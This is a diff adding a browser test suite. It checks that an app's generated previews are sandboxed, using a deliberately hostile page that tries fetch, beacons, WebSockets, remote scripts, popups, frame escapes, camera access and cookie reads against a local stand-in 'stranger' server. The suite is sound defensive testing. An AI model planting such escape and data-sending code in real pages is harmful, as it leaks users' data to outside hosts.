@@ -1,0 +1,176 @@
+/** What a preview may do: run, and nothing that reaches anybody else. Shown with an app that tries everything. */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { FactoryJob } from '../../../generated/types.gen.ts';
+import { startApp, type TestApp } from '../../helpers/app.ts';
+import { hasBrowser, launch } from '../../helpers/browser.ts';
+import { eventsIn, finalJob, postDemo, scripted, tinyApp } from '../../helpers/factory.ts';
+import { ask } from '../../helpers/http.ts';
+
+let app: TestApp;
+let browser: Browser;
+let stranger: Server;
+let job: FactoryJob;
+/** What has reached the stranger's server. */
+const arrived: string[] = [];
+
+beforeAll(async () => {
+  if (!hasBrowser) return;
+  stranger = createServer((request, response) => {
+    arrived.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' });
+    response.end('hello');
+  });
+  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
+  const there = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
+  app = await startApp({
+    factory: {
+      loadBuilder: async () => async (context) => {
+        await scripted()(context);
+        return { ...tinyApp, html: hostile(there, app.url) };
+      },
+    },
+  });
+  browser = await launch();
+  job = finalJob(eventsIn((await postDemo(app, 'an app that tries everything')).text));
+});
+afterAll(async () => {
+  if (!hasBrowser) return;
+  await browser.close();
+  await app.close();
+  stranger.close();
+});
+
+/** A page that tries to get out, and writes down under `window.got` what it has achieved. */
+function hostile(there: string, home: string): string {
+  return `<!doctype html><html lang="en"><title>Hostile</title><h1>Hostile</h1>
+<img src="${there}/img"><link rel="stylesheet" href="${there}/css"><iframe src="${home}/docs"></iframe>
+<form action="${there}/form" id="form"><button>Send</button></form>
+<script>
+const got = window.got = {};
+const attempt = async (name, run) => { try { got[name] = await run(); } catch (error) { got[name] = 'refused'; } };
+window.ran = (async () => {
+  await attempt('fetch', () => fetch('${there}/fetch').then((r) => r.text()));
+  await attempt('api', () => fetch('${home}/api/factory/status').then((r) => r.text()));
+  await attempt('beacon', () => navigator.sendBeacon('${there}/beacon', 'x') && 'queued');
+  await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('${there.replace('http', 'ws')}/ws'); s.onopen = () => resolve('open'); s.onerror = reject; }));
+  await attempt('script', () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.src = '${there}/script'; s.onload = () => resolve('loaded'); s.onerror = reject; document.head.append(s); }));
+  await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => resolve('works'); w.onerror = reject; }));
+  await attempt('cookie', () => { document.cookie = 'a=b'; return document.cookie || 'none'; });
+  await attempt('storage', () => { localStorage.setItem('a', 'b'); return localStorage.getItem('a'); });
+  await attempt('parent', () => parent === window ? 'none' : parent.document.title);
+  await attempt('top', () => { if (top !== window) top.location = '${there}/top'; return 'none'; });
+  await attempt('popup', () => window.open('${there}/popup') ? 'open' : 'refused');
+  await attempt('form', () => { document.getElementById('form').submit(); return 'sent'; });
+  await attempt('eval', () => eval('1 + 1'));
+  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen'));
+  return got;
+})();
+</script></html>`;
+}
+
+type Got = Record<string, unknown>;
+async function gotIn(page: Page | ReturnType<Page['frames']>[number]): Promise<Got> {
+  await page.waitForFunction('window.ran');
+  return page.evaluate<Got>('window.ran');
+}
+
+/** The form that is not sent keeps Chromium from ever calling the page loaded. */
+const begun = { waitUntil: 'commit' } as const;
+
+const nothing = {
+  fetch: 'refused',
+  api: 'refused',
+  socket: 'refused',
+  script: 'refused',
+  worker: 'refused',
+  popup: 'refused',
+  eval: 'refused',
+  camera: 'refused',
+};
+
+describe.skipIf(!hasBrowser)('a preview in Chromium (skipped where there is none)', () => {
+  it('on the server’s own address has no network, no storage and no origin', async () => {
+    const page = await browser.newPage();
+    await page.context().addCookies([{ name: 'switchyard_admin', value: 'secret', url: app.url }]);
+    const response = await page.goto(job.preview?.url ?? '', begun);
+    const got = await gotIn(page);
+    expect(got).toMatchObject({ ...nothing, cookie: 'refused', storage: 'refused' });
+    expect(await page.evaluate('self.origin')).toBe('null');
+    expect(response?.headers()).toMatchObject({
+      'x-robots-tag': 'noindex, nofollow',
+      'referrer-policy': 'no-referrer',
+      'x-content-type-options': 'nosniff',
+      'cross-origin-resource-policy': 'cross-origin',
+    });
+    expect(response?.headers()['x-frame-options']).toBeUndefined();
+    expect(response?.headers()['permissions-policy']).toContain('camera=()');
+    expect(arrived).toEqual([]);
+    await page.close();
+  });
+
+  it('on an origin of its own can store, and still reaches nobody and none of our cookies', async () => {
+    const context = await browser.newContext();
+    await context.addCookies([{ name: 'switchyard_admin', value: 'secret', url: app.url }]);
+    const page = await context.newPage();
+    const address = job.preview?.origin_url ?? '';
+    expect(address).toBe(`http://${job.id.slice(4)}.localhost:${app.port}/`);
+    await page.goto(address, begun);
+    const got = await gotIn(page);
+    expect(got).toMatchObject({ ...nothing, storage: 'b' });
+    expect(String(got['cookie'])).not.toContain('switchyard_admin');
+    expect(arrived).toEqual([]);
+    await context.close();
+  });
+
+  it('may be framed by this server, and not by others', async () => {
+    const page = await browser.newPage();
+    const frame = (origin: string) =>
+      page
+        .goto(origin)
+        .then(() =>
+          page.setContent(
+            `<title>Outside</title><iframe sandbox="allow-scripts allow-forms" src="${job.preview?.url}"></iframe>`,
+          ),
+        );
+    await page.route(`${app.url}/framing`, (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<title>Ours</title>' }),
+    );
+    await frame(`${app.url}/framing`);
+    const inside = page.frames().find((one) => one.url().includes('/preview/'));
+    if (!inside) throw new Error('there is no frame');
+    const got = await gotIn(inside);
+    expect(got).toMatchObject({ ...nothing, parent: 'refused', top: 'refused' });
+    expect(await page.title()).toBe('Outside');
+    await page.route('http://stranger.example/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<title>Theirs</title>' }),
+    );
+    await frame('http://stranger.example/');
+    const refused = page.frames().find((one) => one !== page.mainFrame());
+    expect(await refused?.evaluate<unknown>('window.got')).toBeUndefined();
+    expect(arrived).toEqual([]);
+    await page.close();
+  });
+});
+
+describe.skipIf(!hasBrowser)('the host of a preview', () => {
+  const host = () => ({ headers: { host: `${job.id.slice(4)}.localhost:${app.port}` } });
+
+  it('has the preview and nothing else of the server', async () => {
+    expect((await ask(`${app.url}/`, host())).text).toContain('Hostile');
+    for (const path of ['/docs', '/api/factory/status', '/v1/models', '/admin/factory/settings/api-keys']) {
+      expect((await ask(app.url + path, host())).status).toBe(404);
+    }
+    expect((await ask(`${app.url}/`, { ...host(), body: {} })).status).toBe(405);
+  });
+
+  it('is one of a build; every other leads to the server or nowhere', async () => {
+    const at = async (name: string) => ask(`${app.url}/`, { headers: { host: name } });
+    expect((await at(`${'0'.repeat(26)}.localhost`)).status).toBe(404);
+    expect((await at('switchyard.localhost')).text).not.toContain('Hostile');
+    expect((await ask(`${app.url}/preview/${job.id}`)).headers['location']).toBe(`/preview/${job.id}/`);
+    expect((await ask(`${app.url}/preview/nonsense/`)).status).toBe(404);
+  });
+});
